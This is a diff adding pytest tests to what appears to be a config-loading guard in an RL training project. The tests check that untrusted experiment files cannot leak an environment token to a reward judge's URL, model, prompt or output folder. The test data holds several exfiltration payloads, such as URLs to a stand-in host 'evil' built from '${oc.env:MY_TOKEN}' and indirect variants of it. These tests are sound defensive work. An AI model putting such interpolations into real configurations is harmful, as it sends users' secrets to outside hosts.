@@ -271,6 +271,61 @@ def test_a_file_of_a_stranger_does_not_say_which_key_a_server_gets(line, tmp_pat
         compose_checked(["experiment=evil"])
 
 
+ROUNDABOUT = {  # a secret that a judge gets by another spelling than ${oc.env:NAME} in its URL
+    "quoted": {"url": "http://evil/${oc.env:'MY_TOKEN'}"},
+    "by another key": {"url": "http://evil/${policy.stop[0]}", "stop": "${oc.env:MY_TOKEN}"},
+    "named by another key": {"url": "http://evil/${oc.env:${policy.stop[0]}}", "stop": "MY_TOKEN"},
+    "as its model": {"model": "${oc.env:MY_TOKEN}"},
+    "in its prompt": {"prompt": "{reply} ${policy.stop[0]}", "stop": "${oc.env: 'MY_TOKEN'}"},
+}
+REFUSED = "says which key is sent|looks up .MY_TOKEN, which is a secret"
+
+
+@pytest.mark.parametrize("how", ROUNDABOUT)
+def test_a_file_of_a_stranger_looks_up_no_secret_however_it_writes_it(how, tmp_path, monkeypatch):
+    """Nor does a run folder."""
+    monkeypatch.setenv("MY_TOKEN", "sk-planted-1")
+    folder = tmp_path / "conf"
+    shutil.copytree(ROOT / "conf", folder)
+    node = {"url": "http://evil", "model": "m", **ROUNDABOUT[how]}
+    tree = {"policy": {"stop": [node.pop("stop", "x")]}}
+    tree["env"] = {"rewards": {"j": {"_target_": "envs.rewards.Judge", **node}}}
+    text = "# @package _global_\ndefaults:\n  - grpo_tiny\n" + yaml.safe_dump(tree)
+    (folder / "experiment" / "evil.yaml").write_text(text)
+    with monkeypatch.context() as there:
+        there.setattr(names, "FOLDER", folder)
+        with pytest.raises(ValueError, match=REFUSED):
+            compose_checked(["experiment=evil", "policy.model=tiny"])
+    run = tmp_path / "run"
+    (run / "checkpoints" / "iteration_000001").mkdir(parents=True)
+    saved = compose_checked(["experiment=grpo_tiny", "policy.model=tiny"])
+    saved["policy"]["stop"], saved["env"]["rewards"] = (
+        tree["policy"]["stop"],
+        tree["env"]["rewards"],
+    )
+    (run / "config.yaml").write_text(yaml.safe_dump(saved))
+    for words in ([], ["mode=evaluate"], ["mode=limit"]):
+        with pytest.raises(ValueError, match=REFUSED):
+            asked([*words, f"resume={run}"]) or read_command([f"resume={run}"])
+
+
+def test_a_file_of_a_stranger_puts_no_secret_into_a_folder_by_another_spelling(
+    tmp_path, monkeypatch
+):
+    monkeypatch.setenv("MY_TOKEN", "sk-planted-1")
+    folder = tmp_path / "conf"
+    shutil.copytree(ROOT / "conf", folder)
+    monkeypatch.setattr(names, "FOLDER", folder)
+    set_up()
+    for i, line in enumerate(("a${oc.env:'MY_TOKEN'}", "a${policy.stop[0]}")):
+        tree = {"policy": {"stop": ["${oc.env:MY_TOKEN}"]}, "output_dir": f"{tmp_path}/{line}"}
+        text = "# @package _global_\ndefaults:\n  - grpo_tiny\n" + yaml.safe_dump(tree)
+        (folder / "experiment" / f"evil{i}.yaml").write_text(text)
+        with pytest.raises(ValueError, match=r"MY_TOKEN, which is a secret"):
+            read_command([f"experiment=evil{i}", "policy.model=tiny"])
+    assert [path.name for path in tmp_path.iterdir()] == ["conf"]
+
+
 SENT = {
     "+env.rewards.j.key_variable": "AWS_SECRET",
     "+env.rewards.j.prompt": "{reply} ${oc.env:MY_TOKEN}",
